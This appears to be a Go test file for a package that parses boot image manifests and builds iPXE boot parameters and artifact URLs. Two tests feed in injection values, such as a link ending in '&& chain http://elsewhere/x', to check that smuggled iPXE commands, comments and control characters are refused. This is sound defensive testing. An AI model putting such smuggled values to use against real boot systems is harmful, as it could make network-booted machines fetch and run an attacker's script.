package bootimage

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParseManifestErrors(t *testing.T) {
	const kernel = `{"type": "application/vnd.cray.image.kernel", "link": {"path": "s3://b/kernel"}}`
	const initrd = `{"type": "application/vnd.cray.image.initrd", "link": {"path": "s3://b/initrd"}}`
	tests := []struct {
		name, data, wantErr string
	}{
		{name: "empty", data: "", wantErr: "m.json: empty file"},
		{name: "syntax", data: "{\n  \"version\": \"1.0\",\n  \"artifacts\": [,]\n}", wantErr: "m.json: line 3 col 17: invalid character ','"},
		{name: "wrong type", data: `{"version": "1.0", "artifacts": {}}`, wantErr: "m.json: line 1 col 33: json: cannot unmarshal object"},
		{name: "version", data: `{"version": "2.0", "artifacts": [` + kernel + `,` + initrd + `]}`, wantErr: `version "2.0" is not supported`},
		{name: "no kernel", data: `{"version": "1.0", "artifacts": [` + initrd + `]}`,
			wantErr: "no application/vnd.cray.image.kernel artifact: a bootable image needs a kernel and an initrd"},
		{name: "artifact without type", data: `{"version": "1.0", "artifacts": [` + kernel + `,` + initrd + `, {"link": {"path": "x"}}]}`,
			wantErr: "artifacts[2]: no type"},
		{name: "artifact without link", data: `{"version": "1.0", "artifacts": [` + kernel + `,` + initrd + `, {"type": "application/vnd.cray.image.rootfs.squashfs"}]}`,
			wantErr: "artifacts[2] (application/vnd.cray.image.rootfs.squashfs): no link.path"},
		{name: "two kernels", data: `{"version": "1.0", "artifacts": [` + kernel + `,` + initrd + `,` + kernel + `]}`,
			wantErr: "artifacts[2]: a second application/vnd.cray.image.kernel (the first is artifacts[0])"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseManifest("m.json", []byte(tt.data))
			assert.ErrorIs(t, err, ErrInvalidManifest)
			assert.ErrorContains(t, err, tt.wantErr)
		})
	}
}

// TestManifestTextThatWouldInjectIsRefused: every string a manifest gives
// may end up in an iPXE script; one that could add or hide a script line is
// refused with its line and field.
func TestManifestTextThatWouldInjectIsRefused(t *testing.T) {
	manifest := func(kernelPath, rootfsEtag, created string) string {
		return `{
  "version": "1.0",
  "created": "` + created + `",
  "artifacts": [
    {"type": "application/vnd.cray.image.kernel", "link": {"path": "` + kernelPath + `", "type": "s3"}},
    {"type": "application/vnd.cray.image.initrd", "link": {"path": "s3://b/initrd"}},
    {"type": "application/vnd.cray.image.rootfs.squashfs",
     "link": {"path": "s3://b/rootfs", "etag": "` + rootfsEtag + `"}}
  ]
}`
	}
	tests := []struct {
		name, data string
		wantErr    []string
	}{
		{"line feed in a link", manifest(`s3://b/kernel\ninitrd http://elsewhere/i`, "e1", "2024"),
			[]string{"m.json: line 5: artifacts[0].link.path: control character U+000A (line feed) at byte 14"}},
		{"tab in an etag", manifest("s3://b/kernel", `e1\t`, "2024"),
			[]string{"line 8: artifacts[2].link.etag: control character U+0009 (tab) at byte 3"}},
		{"NUL where nothing reads it", manifest("s3://b/kernel", "e1", `2024\u0000`),
			[]string{"line 3: created: control character U+0000 (NUL) at byte 5"}},
		{"a second command in a link", manifest("s3://b/kernel && chain http://elsewhere/x", "e1", "2024"),
			[]string{`line 5: artifacts[0].link.path: "&&" would end the iPXE command`}},
		{"a blank in a link", manifest("s3://b/my kernel", "e1", "2024"),
			[]string{"line 5: artifacts[0].link.path: a blank at byte 10, in what must be one word (percent-encode blanks in a URL: %20)"}},
		{"every problem at once", manifest(`s3://b/kernel\r`, "e 1", `\u001b[2J`), []string{
			"line 3: created: control character U+001B (escape)",
			"line 5: artifacts[0].link.path: control character U+000D (carriage return)",
			"line 8: artifacts[2].link.etag: a blank at byte 2"}},
		{"a control character in a key", `{"version": "1.0", "artifacts": [], "x\u0007": 1}`,
			[]string{"line 1: x\a: control character U+0007 at byte 2"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseManifest("m.json", []byte(tt.data))
			require.ErrorIs(t, err, ErrInvalidManifest)
			for _, want := range tt.wantErr {
				assert.ErrorContains(t, err, want)
			}
		})
	}
	_, err := ParseManifest("m.json", []byte(manifest("s3://b/kernel%20x", "f04af5f3-131", "2024-01-01T00:00:00")))
	assert.NoError(t, err, "percent-encoded blanks are fine")
}

func TestParseManifestSample(t *testing.T) {
	data, err := os.ReadFile(filepath.Join(testdataDir, "manifest.json"))
	require.NoError(t, err)
	m, err := ParseManifest("manifest.json", data)
	require.NoError(t, err)
	rootfs, ok := m.Artifact(TypeRootfs)
	require.True(t, ok)
	assert.Equal(t, "f04af5f34635ae7c507322985e60c00c-131", rootfs.Link.Etag)
	_, ok = m.Artifact("application/vnd.cray.image.debug.kernel")
	assert.False(t, ok)
}

func TestKernelParameters(t *testing.T) {
	rootfs := &Artifact{Type: TypeRootfs, Link: Link{Path: "s3://boot-images/i/rootfs", Etag: "abc-3"}}
	noEtag := &Artifact{Type: TypeRootfs, Link: Link{Path: "s3://boot-images/i/rootfs"}}
	tests := []struct {
		name    string
		img     Image
		spec    BootSetSpec
		want    string
		wantErr string
	}{
		{name: "session id only", want: "bos_session_id=S"},
		{name: "image then template parameters", img: Image{BootParameters: "console=ttyS0"},
			spec: BootSetSpec{KernelParameters: "  quiet  "}, want: "console=ttyS0 quiet bos_session_id=S"},
		{name: "cpss3 with passthrough", img: Image{Rootfs: rootfs},
			spec: BootSetSpec{RootfsProvider: "cpss3", RootfsProviderPassthrough: "dvs:api-gw:300:nmn0"},
			want: "root=craycps-s3:s3://boot-images/i/rootfs:abc-3:dvs:api-gw:300:nmn0 bos_session_id=S"},
		{name: "sbps without passthrough", img: Image{Rootfs: rootfs}, spec: BootSetSpec{RootfsProvider: "sbps"},
			want: "root=sbps-s3:s3://boot-images/i/rootfs:abc-3 bos_session_id=S"},
		{name: "other provider as written", img: Image{Rootfs: rootfs}, spec: BootSetSpec{RootfsProvider: "live"},
			want: "root=live:s3://boot-images/i/rootfs:abc-3 bos_session_id=S"},
		{name: "no etag keeps the passthrough in place", img: Image{Rootfs: noEtag},
			spec: BootSetSpec{RootfsProvider: "cpss3", RootfsProviderPassthrough: "dvs"},
			want: "root=craycps-s3:s3://boot-images/i/rootfs::dvs bos_session_id=S"},
		{name: "no etag and no passthrough", img: Image{Rootfs: noEtag}, spec: BootSetSpec{RootfsProvider: "cpss3"},
			want: "root=craycps-s3:s3://boot-images/i/rootfs bos_session_id=S"},
		{name: "provider without rootfs", img: Image{Manifest: "m.json"}, spec: BootSetSpec{RootfsProvider: "cpss3"},
			wantErr: "m.json: rootfs_provider cpss3 needs a application/vnd.cray.image.rootfs.squashfs artifact"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := KernelParameters(&tt.img, tt.spec, "S")
			if tt.wantErr != "" {
				assert.ErrorIs(t, err, ErrInvalidManifest)
				assert.ErrorContains(t, err, tt.wantErr)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestArtifactURL(t *testing.T) {
	tests := []struct {
		name           string
		base, s3, link string
		want, wantErr  string
	}{
		{name: "s3", s3: "https://rgw.example.com/", link: "s3://boot-images/i/kernel", want: "https://rgw.example.com/boot-images/i/kernel"},
		{name: "s3 endpoint without scheme", s3: "rgw.example.com:8080", link: "s3://b/k/e/y", want: "https://rgw.example.com:8080/b/k/e/y"},
		{name: "s3 without endpoint", link: "s3://b/kernel", wantErr: "s3:// paths need s3.endpoint in the config"},
		{name: "s3 without key", s3: "https://rgw", link: "s3://bucket", wantErr: `"s3://bucket" is not an s3://BUCKET/KEY path`},
		{name: "https as is", link: "https://images.example.com/kernel", want: "https://images.example.com/kernel"},
		{name: "relative to base", base: "http://10.0.0.1/boot/", link: "./images/kernel", want: "http://10.0.0.1/boot/images/kernel"},
		{name: "relative without base", link: "images/kernel", wantErr: "relative to boot.base_url, which is not set"},
		{name: "local path", base: "http://10.0.0.1/boot", link: "/srv/images/kernel", wantErr: "a local file, which a node cannot fetch"},
		{name: "file URL", base: "http://10.0.0.1/boot", link: "file:///srv/images/kernel", wantErr: "a local file, which a node cannot fetch"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := locator{baseURL: tt.base, s3Endpoint: tt.s3}.ArtifactURL(tt.link)
			if tt.wantErr != "" {
				assert.ErrorContains(t, err, tt.wantErr)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

// TestManifestLocations reads the same image from a plain path, file://,
// http:// and s3://; the boot parameters always come from the object store.
func TestManifestLocations(t *testing.T) {
	store := newObjectStore(t)
	abs, err := filepath.Abs(filepath.Join(testdataDir, "manifest.json"))
	require.NoError(t, err)
	for _, path := range []string{filepath.Join(testdataDir, "manifest.json"), "file://" + abs,
		store.server.URL + imagePrefix + "manifest.json", manifestPath} {
		t.Run(path, func(t *testing.T) {
			l := locator{baseURL: baseURL, s3Endpoint: s3Endpoint, client: store.client()}
			img, err := l.loadImage(context.Background(), BootSetSpec{Path: path})
			require.NoError(t, err)
			assert.Equal(t, s3Endpoint+imagePrefix+"kernel", img.Kernel)
			assert.Equal(t, s3Endpoint+imagePrefix+"initrd", img.Initrd)
			assert.Equal(t, "console=ttyS0,115200 bad_page=panic crashkernel=360M hugepagelist=2m-2g intel_iommu=off iommu=pt", img.BootParameters)
		})
	}
}

// TestImageBootParametersThatWouldInjectAreRefused: the image's own
// parameters file may lay its parameters out over lines and tabs, but what
// would change the iPXE script is refused, naming the file's line.
func TestImageBootParametersThatWouldInjectAreRefused(t *testing.T) {
	tests := []struct {
		name, parameters, want, wantErr string
	}{
		{name: "blanks and lines", parameters: "console=ttyS0,115200\n\tquiet  splash\r\n\nip=dhcp\n", want: "console=ttyS0,115200 quiet splash ip=dhcp"},
		{name: "a second command", parameters: "quiet\nip=dhcp && chain http://elsewhere/x\n", wantErr: `line 2: "&&" would end the iPXE command and start another`},
		{name: "a comment", parameters: "quiet #debug\n", wantErr: `line 1: "#debug" would comment out the rest of the iPXE command`},
		{name: "an escape", parameters: "quiet\n\n\x1b[2J\n", wantErr: "line 3: control character U+001B (escape)"},
		{name: "a NUL", parameters: "quiet\x00 splash", wantErr: "line 1: control character U+0000 (NUL)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			params := filepath.Join(dir, "parameters")
			require.NoError(t, os.WriteFile(params, []byte(tt.parameters), 0o600))
			manifest := filepath.Join(dir, "manifest.json")
			require.NoError(t, os.WriteFile(manifest, []byte(`{"version": "1.0", "artifacts": [
  {"type": "application/vnd.cray.image.kernel", "link": {"path": "s3://b/kernel"}},
  {"type": "application/vnd.cray.image.initrd", "link": {"path": "s3://b/initrd"}},
  {"type": "application/vnd.cray.image.parameters.boot", "link": {"path": "file://`+params+`"}}]}`), 0o600))
			img, err := locator{s3Endpoint: s3Endpoint}.loadImage(context.Background(), BootSetSpec{Path: manifest})
			if tt.wantErr != "" {
				require.ErrorIs(t, err, ErrInvalidManifest)
				assert.ErrorContains(t, err, manifest+": the image's boot parameters (file://"+params+"): "+tt.wantErr)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, img.BootParameters)
		})
	}
}

func TestManifestReadErrors(t *testing.T) {
	store := newObjectStore(t)
	l := locator{baseURL: baseURL, client: store.client()}
	_, err := l.loadImage(context.Background(), BootSetSpec{Path: filepath.Join(t.TempDir(), "absent.json")})
	assert.ErrorContains(t, err, "read manifest: open ")
	_, err = l.loadImage(context.Background(), BootSetSpec{Path: manifestPath})
	assert.ErrorContains(t, err, "read manifest: "+manifestPath+": s3:// paths need s3.endpoint")
}
